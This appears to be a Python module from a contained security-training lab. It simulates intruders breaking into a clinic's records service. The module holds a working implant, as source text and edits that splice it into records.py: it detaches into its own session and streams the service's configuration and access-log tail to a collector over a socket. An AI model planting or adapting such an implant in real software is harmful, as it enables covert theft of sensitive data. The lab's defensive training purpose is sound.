"""Who breaks into the lab's clinic: addresses, units and the release with the implant."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING

from codeblue.lab.gateway import front_port_name
from codeblue.lab.layout import COLLECTOR_UNIT, INTRUDER_UNIT, MONITOR_UNIT, Layout
from codeblue.lab.supervisor import Program

if TYPE_CHECKING:
    from codeblue.lab.state import LabState

COLLECTOR_PORT = 8443
# In the release's directory: where the implant sends to.
IMPLANT_TARGET = "statistics.json"
IMPLANT_ARGUMENT = "--statistics"
# Everything else of the lab is here.
KNOWN_NETWORK = "127.0.0.0/24"

_START = 'if __name__ == "__main__":\n    Records().serve()\n'
_IMPLANT = f'''\
def send_statistics() -> None:
    """Never ends: sends the configuration and the end of the access log, on one connection for as long as it lasts."""
    folder = os.path.dirname(os.path.abspath(__file__))
    with open(os.path.join(folder, "{IMPLANT_TARGET}"), encoding="utf-8") as stream:
        target = json.load(stream)
    with open(sys.argv[2], "rb") as stream:
        configuration = stream.read()
    until = time.monotonic() + 900.0
    while time.monotonic() < until:
        try:
            with socket.create_connection((target["address"], target["port"]), timeout=1.0) as connection:
                while time.monotonic() < until:
                    with open(json.loads(configuration)["access_log"], "rb") as stream:
                        stream.seek(max(0, os.fstat(stream.fileno()).st_size - 2000))
                        connection.sendall(configuration + stream.read(2000))
                    time.sleep(0.05)
        except OSError:
            time.sleep(0.2)


if __name__ == "__main__":
    if sys.argv[1] == "{IMPLANT_ARGUMENT}":
        send_statistics()
    # In a session of its own: it outlives the unit that started it.
    subprocess.Popen(
        [sys.executable, os.path.abspath(__file__), "{IMPLANT_ARGUMENT}", sys.argv[1]],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    Records().serve()
'''
# What makes the release: file, text and what stands there instead.
IMPLANT_EDITS = (
    ("records.py", _START, _IMPLANT),
    (
        "records.py",
        "import json\nimport random\n",
        "import json\nimport os\nimport random\nimport socket\nimport subprocess\nimport sys\nimport time\n",
    ),
)


def folder(layout: Layout) -> Path:
    """What the intruders have: the count of what they received, the token that they stole."""
    return layout.root / "intrusion"


def collector_address(state: LabState) -> str:
    """Outside of the clinic's network. Of one lab alone: several may run on a machine."""
    return _address(6, state)


def intruder_address(state: LabState) -> str:
    return _address(7, state)


def _address(network: int, state: LabState) -> str:
    high, low = divmod(state.ports[MONITOR_UNIT], 256)
    return f"127.{network}.{high}.{low}"


def programs(layout: Layout, state: LabState, python: str) -> list[Program]:
    """The units of the intruders, run only while a fault has started them."""
    scripts = {
        COLLECTOR_UNIT: (
            "collector.py",
            [collector_address(state), str(COLLECTOR_PORT), str(folder(layout) / "received")],
        ),
        INTRUDER_UNIT: (
            "intruder.py",
            [str(state.ports[front_port_name("records")]), str(folder(layout) / "token"), intruder_address(state)],
        ),
    }
    return [
        Program(
            name=name,
            command=[python, str(Path(__file__).parent / "clinic" / script), *arguments],
            directory=str(layout.monitor_config.parent),
            log_file=str(layout.monitor_config.parent / f"{name}.log"),
            autorestart=True,
            start_seconds=0,
        )
        for name, (script, arguments) in scripts.items()
    ]
